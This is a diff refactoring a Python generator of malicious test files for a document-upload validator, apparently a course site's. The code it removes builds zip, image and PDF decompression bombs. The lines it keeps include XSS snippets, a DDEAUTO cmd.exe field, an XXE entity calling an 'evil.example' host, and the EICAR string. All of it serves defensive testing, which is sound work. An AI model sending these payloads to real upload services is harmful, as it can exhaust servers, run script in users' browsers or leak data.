@@ -8,46 +8,31 @@ Made by program and always the same: no bad file lies in the repository.
 import io
 import sys
 import zipfile
-import zlib
 from collections.abc import Iterator
-from dataclasses import dataclass
 from pathlib import Path
-from random import Random
 from struct import pack, unpack_from
 
-from courses.errors import Reason
-from tests.files.good import (
-    chunk,
-    odt,
-    odt_entries,
-    ooxml,
-    ooxml_entries,
-    packed,
-    pdf,
-    picture,
+from tests.files.bad import (
+    ALL,
+    EICAR,
+    HTML,
+    OFFICE,
+    OFFICE_ENTRIES,
+    OLE,
+    SVG,
+    Bad,
+    R,
+    places_of,
+    replaced,
 )
-
-R = Reason
-EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
-HTML = b"<html><script>alert(1)</script></html>"
-SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
-OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
-OFFICE = {"docx": ooxml("docx"), "pptx": ooxml("pptx"), "xlsx": ooxml("xlsx"), "odt": odt()}
-ALL = {**OFFICE, "pdf": pdf(), "png": picture(), "jpg": picture("JPEG")}
-
-
-@dataclass(frozen=True)
-class Bad:
-    name: str
-    content: bytes
-    reasons: tuple[Reason, ...]
-    """Any of these is right; for most there is one."""
+from tests.files.bombs import bombs
+from tests.files.good import chunk, odt, odt_entries, ooxml, packed, pdf, picture
 
 
 def corpus() -> Iterator[Bad]:
     """Give the bad files one by one."""
     for make in (
-        _empty_and_other, _renamed, _truncated, _locked, _bombs, _names, _polyglots, _macros,
+        _empty_and_other, _renamed, _truncated, _locked, bombs, _names, _polyglots, _macros,
         _entities, _active_pdfs, _broken_pictures, _nested, _damaged,
     ):
         yield from make()
@@ -97,9 +82,9 @@ def _locked() -> Iterator[Bad]:
         yield Bad(f"lösenord.{ending}", OLE, (R.UPLOAD_UNREADABLE,))
     for ending, content in OFFICE.items():
         locked = bytearray(content)
-        for place in _all(content, b"PK\x03\x04"):
+        for place in places_of(content, b"PK\x03\x04"):
             locked[place + 6] |= 1
-        for place in _all(content, b"PK\x01\x02"):
+        for place in places_of(content, b"PK\x01\x02"):
             locked[place + 8] |= 1
         yield Bad(f"krypterad.{ending}", bytes(locked), (R.UPLOAD_UNREADABLE,))
     secret = '<manifest:encryption-data manifest:checksum="x"/>'
@@ -115,80 +100,6 @@ def _locked_pdf() -> bytes:
     data = io.BytesIO()
     writer.write(data)
     return data.getvalue()
-
-
-def _bombs() -> Iterator[Bad]:
-    zeros = b"\0" * 50_000_000
-    one = packed([("word/media/a.png", zeros)])
-    for ending in OFFICE:
-        flat = OFFICE_ENTRIES[ending](more=[("media/bomb.png", zeros)])
-        yield Bad(f"bomb.{ending}", packed(flat, stored=("mimetype",)), (R.UPLOAD_UNPACKS,))
-        many = OFFICE_ENTRIES[ending](more=[(f"media/{n}.png", "x") for n in range(2_100)])
-        yield Bad(f"många.{ending}", packed(many, stored=("mimetype",)), (R.UPLOAD_UNPACKS,))
-        total = OFFICE_ENTRIES[ending](more=[(f"media/{n}.png", b"\0" * 9_000_000)
-                                             for n in range(25)])
-        yield Bad(f"summa.{ending}", packed(total, stored=("mimetype",)), (R.UPLOAD_UNPACKS,))
-    yield Bad("nästlad-bomb.docx", ooxml("docx", more=[("word/a.bin", one)]), (R.UPLOAD_NESTED,))
-    for declared in (10, 1_000, 40_000_000):
-        yield Bad(
-            f"ljuger-{declared}.docx", _lying(declared), (R.UPLOAD_UNPACKS, R.UPLOAD_UNREADABLE)
-        )
-    yield Bad("överlappande.docx", _overlapping(), (R.UPLOAD_UNREADABLE, R.UPLOAD_UNPACKS))
-    yield Bad("42.zip.docx", _forty_two(), (R.UPLOAD_NESTED, R.UPLOAD_UNPACKS))
-    big = f"<w:document xmlns:w='w'>{'<w:p/>' * 3_000_000}</w:document>"
-    yield Bad("tight.docx", _replaced("word/document.xml", big), (R.UPLOAD_UNPACKS,))
-    yield Bad("bomb.png", _huge_png(60_000, 60_000), (R.UPLOAD_PIXELS,))
-    yield Bad("bomb2.png", _huge_png(12_000, 12_000), (R.UPLOAD_PIXELS,))
-    yield Bad("bomb.jpg", _huge_jpeg(65_000, 65_000), (R.UPLOAD_PIXELS,))
-    yield Bad("bomb2.jpg", _huge_jpeg(20_000, 20_000), (R.UPLOAD_PIXELS,))
-    stream = zlib.compress(b"\0" * 300_000_000, 9)
-    yield Bad(
-        "bomb.pdf",
-        pdf(catalog=b"/X 6 0 R", head=b"%PDF-1.7\n", objects=[
-            b"<</Type/ObjStm/N 9/First 9/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
-            % (len(stream), stream),
-        ]).replace(b"startxref\n", b"startxref\n9"),
-        (R.UPLOAD_UNREADABLE,),
-    )
-
-
-def _lying(declared: int) -> bytes:
-    """A part that says it becomes `declared` bytes and becomes 50 million."""
-    content = Random(1).randbytes(60_000) * 50  # noqa: S311 - always the same
-    data = bytearray(ooxml("docx", more=[("word/media/a.png", content)]))
-    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
-        place = _all(bytes(data), mark)[-1]
-        data[place + at : place + at + 4] = pack("<L", declared)
-    return bytes(data)
-
-
-def _overlapping() -> bytes:
-    """Two entries of the directory that point at the same data."""
-    content = ooxml("docx", more=[("word/media/a.png", "a" * 500)])
-    data = bytearray(content)
-    first, last = _all(content, b"PK\x01\x02")[2], _all(content, b"PK\x01\x02")[-1]
-    data[last + 42 : last + 46] = data[first + 42 : first + 46]
-    return bytes(data)
-
-
-def _forty_two() -> bytes:
-    inner = packed([("0.bin", b"\0" * 1_000_000)])
-    for _ in range(3):
-        inner = packed([(f"lib{n}.zip", inner) for n in range(16)])
-    return ooxml("docx", more=[("word/embeddings/lib.zip", inner)])
-
-
-def _huge_png(width: int, height: int) -> bytes:
-    head = pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
-    data = zlib.compress(b"\0" * 5_000_000, 9)
-    return picture()[:8] + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
-
-
-def _huge_jpeg(width: int, height: int) -> bytes:
-    data = bytearray(picture("JPEG"))
-    place = data.index(b"\xff\xc0")
-    data[place + 5 : place + 9] = pack(">HH", height, width)
-    return bytes(data)
 
 
 def _names() -> Iterator[Bad]:
@@ -253,7 +164,7 @@ def _macros() -> Iterator[Bad]:
     yield Bad("skript.odt", odt(more=[("Scripts/python/a.py", "a")]), (R.UPLOAD_MACROS,))
     yield Bad("händelse.odt", odt("vnd.sun.star.script:a"), (R.UPLOAD_MACROS,))
     yield Bad("html-inuti.docx", ooxml("docx", more=[("word/a.html", "a")]), (R.UPLOAD_MACROS,))
-    dde = _replaced(
+    dde = replaced(
         "word/document.xml",
         "<w:document xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>",
     )
@@ -279,11 +190,11 @@ def _entities() -> Iterator[Bad]:
         '<!doctype a [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><a/>', "<a><b></a>",
         "inte xml", "<a>" * 5_000 + "</a>" * 5_000, "\ufeff" + "<!DOCTYPE a><a/>",
     ):
-        yield Bad("entiteter.docx", _replaced("word/document.xml", text), (R.UPLOAD_UNREADABLE,))
+        yield Bad("entiteter.docx", replaced("word/document.xml", text), (R.UPLOAD_UNREADABLE,))
         entries = [(n, text if n == "content.xml" else c) for n, c in odt_entries()]
         yield Bad("entiteter.odt", packed(entries, stored=("mimetype",)), (R.UPLOAD_UNREADABLE,))
     wide = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")
-    yield Bad("utf16.docx", _replaced("word/document.xml", wide), (R.UPLOAD_UNREADABLE,))
+    yield Bad("utf16.docx", replaced("word/document.xml", wide), (R.UPLOAD_UNREADABLE,))
 
 
 def _active_pdfs() -> Iterator[Bad]:
@@ -337,32 +248,14 @@ def _nested() -> Iterator[Bad]:
 def _damaged() -> Iterator[Bad]:
     """A byte changed in the middle of what a document holds."""
     for ending, content in OFFICE.items():
-        place = _all(content, b"PK\x03\x04")[1]
-        size = unpack_from("<L", content, _all(content, b"PK\x01\x02")[1] + 20)[0]
+        place = places_of(content, b"PK\x03\x04")[1]
+        size = unpack_from("<L", content, places_of(content, b"PK\x01\x02")[1] + 20)[0]
         name = unpack_from("<H", content, place + 26)[0]
         damaged = bytearray(content)
         damaged[place + 30 + name + size // 2] ^= 0x55
         if size:
             yield Bad(f"skadad.{ending}", bytes(damaged), (R.UPLOAD_UNREADABLE,))
 
-
-def _replaced(name: str, content: str | bytes) -> bytes:
-    return packed([(n, content if n == name else c) for n, c in ooxml_entries("docx")])
-
-
-def _all(content: bytes, mark: bytes) -> list[int]:
-    places, at = [], content.find(mark)
-    while at >= 0:
-        places.append(at)
-        at = content.find(mark, at + 1)
-    return places
-
-
-OFFICE_ENTRIES = {
-    **{kind: lambda kind=kind, **parts: ooxml_entries(kind, **parts)
-       for kind in ("docx", "pptx", "xlsx")},
-    "odt": odt_entries,
-}
 
 if __name__ == "__main__":
     folder = Path(sys.argv[1])
